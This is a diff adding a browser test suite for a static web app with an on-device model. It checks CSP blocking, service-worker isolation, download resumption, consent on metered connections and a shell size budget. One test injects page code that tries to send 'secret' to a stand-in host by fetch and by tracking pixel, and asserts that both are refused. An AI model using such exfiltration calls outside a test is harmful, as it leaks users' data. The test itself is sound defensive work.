@@ -1,0 +1,145 @@
+// The page on a host that sends no headers and on connections that break or count bytes.
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { brotliCompressSync } from 'node:zlib';
+import { able, launch, missing, settled } from './browser.mjs';
+import { plainHost } from './host.mjs';
+
+const reason = missing();
+const dist = process.env.VITRINE_DIST;
+const json = (file) => JSON.parse(readFileSync(path.join(dist, file), 'utf8'));
+
+describe('the page on a plain host', { skip: reason ?? false, concurrency: 1 }, () => {
+  let browser;
+  before(async () => (browser = await launch()));
+  after(async () => browser?.close());
+
+  async function visit(host, { address = '', init, ...options } = {}) {
+    const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, serviceWorkers: 'block', ...options });
+    if (init) await context.addInitScript(init);
+    const page = await context.newPage();
+    await page.goto(`${host.origin}/${address}`);
+    return { context, page };
+  }
+
+  test('keeps its promise by its own meta tag: another site cannot be reached, and the panel counts the attempt', async () => {
+    const host = await plainHost(dist);
+    const { context, page } = await visit(host);
+    await able(page, 'text');
+    const left = []; // what the policy stops never gets that far, and fails as "csp"
+    const away = (request) => new URL(request.url()).origin !== host.origin && left.push(request.url());
+    context.on('requestfinished', away);
+    context.on('requestfailed', (request) => request.failure().errorText !== 'csp' && away(request));
+    const tried = await page.evaluate(async () => {
+      const reached = await fetch('https://elsewhere.example/?q=secret').then(() => 'reached', () => 'refused');
+      const image = await new Promise((resolve) => {
+        const pixel = new Image();
+        pixel.onload = () => resolve('reached');
+        pixel.onerror = () => resolve('refused');
+        pixel.src = 'https://elsewhere.example/pixel.png?q=secret';
+      });
+      const script = await new Promise((resolve) => {
+        const inline = document.createElement('script');
+        inline.textContent = 'globalThis.ran = true';
+        document.head.append(inline);
+        setTimeout(() => resolve(globalThis.ran ? 'ran' : 'refused'), 50);
+      });
+      return { reached, image, script };
+    });
+    assert.deepEqual(tried, { reached: 'refused', image: 'refused', script: 'refused' });
+    assert.deepEqual(left, []);
+    await page.click('[data-part="status"]');
+    assert.equal(await page.textContent('.privacy-count'), '0 requests left this site');
+    assert.match(await page.textContent('.privacy'), /blocked 3 attempts/);
+    await context.close();
+    await host.stop();
+  });
+
+  test('is isolated by its service worker from the second page on, and never loops', async () => {
+    const host = await plainHost(dist);
+    const { context, page } = await visit(host, { serviceWorkers: 'allow' });
+    await page.waitForFunction(() => navigator.serviceWorker.controller);
+    assert.equal(await page.evaluate(() => crossOriginIsolated), false, 'the host itself sends nothing');
+    await page.reload();
+    await able(page, 'text'); // worker and wasm run under isolation too
+    assert.equal(await page.evaluate(() => crossOriginIsolated), true);
+
+    // A site made with --isolate does not wait for the second page.
+    const eager = await browser.newContext();
+    let loads = 0;
+    const first = await eager.newPage();
+    first.on('load', () => loads++);
+    await eager.route('**/site.json*', (route) => route.fulfill({ json: { ...json('site.json'), isolate: true } }));
+    await first.goto(host.origin);
+    await first.waitForFunction(() => globalThis.crossOriginIsolated);
+    await settled(first, { kind: 'browse' });
+    assert.equal(loads, 2);
+
+    // Where isolation does not come (here a browser says so), the page is loaded again once and then left alone.
+    const stuck = await browser.newContext();
+    await stuck.addInitScript(() => Object.defineProperty(globalThis, 'crossOriginIsolated', { value: false }));
+    await stuck.route('**/site.json*', (route) => route.fulfill({ json: { ...json('site.json'), isolate: true } }));
+    const second = await stuck.newPage();
+    let again = 0;
+    second.on('load', () => again++);
+    await second.goto(host.origin);
+    await second.waitForFunction(() => navigator.serviceWorker.controller);
+    await able(second, 'text');
+    await second.evaluate(() => navigator.serviceWorker.controller.postMessage({ type: 'take over' }));
+    await able(second, 'image');
+    assert.ok(again <= 2, `loaded ${again} times`);
+    for (const one of [context, eager, stuck]) await one.close();
+    await host.stop();
+  });
+
+  for (const ranges of [true, false]) {
+    test(`takes a download up where it broke, on a host that ${ranges ? 'knows' : 'does not know'} ranges`, async () => {
+      const { parts } = json('model/model.json');
+      const { file, bytes } = parts.find(({ part }) => part === 'text');
+      const half = bytes >> 1;
+      const host = await plainHost(dist, { ranges, breaks: (name, nth) => (name === file && nth === 1 ? half : undefined) });
+      const { context, page } = await visit(host, { address: '?q=red+dress' });
+      await settled(page, { kind: 'text', by: 'engine' });
+      const asked = host.asked.filter((one) => one.file === file);
+      assert.equal(asked[0].range, null);
+      assert.match(asked[1].range, /^bytes=[1-9]\d*-$/, 'the rest is asked for');
+      assert.ok(Number(asked[1].range.match(/\d+/)[0]) <= half);
+      assert.equal(asked.length, ranges ? 2 : 3, JSON.stringify(asked));
+      assert.equal(await page.locator('[role="alert"]').count(), 0);
+      await context.close();
+      await host.stop();
+    });
+  }
+
+  test('asks before it fetches the model over a connection that counts bytes, and browses meanwhile', async () => {
+    const host = await plainHost(dist);
+    const init = () => Object.defineProperty(navigator, 'connection', { value: { saveData: true } });
+    const { context, page } = await visit(host, { init, address: '?q=dress' });
+    const notice = page.locator('[data-notice="consent"]');
+    await notice.waitFor();
+    assert.match(await notice.textContent(), /needs \d+ MB, once/);
+    await settled(page, { kind: 'text', by: 'titles' });
+    assert.ok((await page.locator('.card').count()) > 0, 'titles answer');
+    assert.ok(!host.asked.some(({ file }) => /safetensors|_bg\.wasm|^shard-|tokenizer/.test(file)), 'nothing large was fetched');
+    await notice.getByRole('button', { name: 'Fetch it now' }).click();
+    await settled(page, { kind: 'text', by: 'engine' });
+    await page.waitForFunction(() => !document.querySelector('[data-notice="consent"]'));
+    assert.ok(!host.asked.some(({ file }) => file.startsWith('image.')), 'the image encoder waits until it is needed');
+    await page.reload();
+    await settled(page, { kind: 'text', by: 'engine' });
+    assert.equal(await notice.count(), 0, 'the answer is remembered');
+    await context.close();
+    await host.stop();
+  });
+
+  test('has a shell of at most 60 KB over the wire, wasm apart', () => {
+    const { precache } = json('site.json');
+    const files = [...precache, './index.html', './site.json', './sw.js'].map((file) => file.slice(2));
+    const shell = new Set(files.filter((file) => !file.startsWith('pkg/')));
+    const sizes = [...shell].map((file) => [file, brotliCompressSync(readFileSync(path.join(dist, file))).length]);
+    const total = sizes.reduce((sum, [, bytes]) => sum + bytes, 0);
+    assert.ok(total <= 60_000, `${total} bytes: ${JSON.stringify(Object.fromEntries(sizes.sort((a, b) => b[1] - a[1]).slice(0, 12)))}`);
+  });
+});
